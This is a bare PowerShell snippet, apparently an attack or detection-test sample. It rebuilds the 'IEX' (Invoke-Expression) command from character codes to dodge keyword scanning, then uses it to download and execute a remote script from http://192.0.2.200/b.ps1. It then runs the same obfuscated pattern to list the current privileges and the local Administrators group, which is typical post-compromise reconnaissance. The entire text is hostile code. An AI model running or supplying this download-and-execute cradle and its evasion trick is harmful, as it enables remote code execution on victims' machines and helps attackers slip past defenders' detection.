$launcher = -join ((73, 69, 88) | ForEach-Object { [char]$_ })
& $launcher ((New-Object Net.WebClient).DownloadString('http://192.0.2.200/b.ps1'))
& ([string]::new([char[]](73, 69, 88))) 'whoami /priv'
$c = 'IEX'
& $c 'Get-LocalGroupMember -Group Administrators'
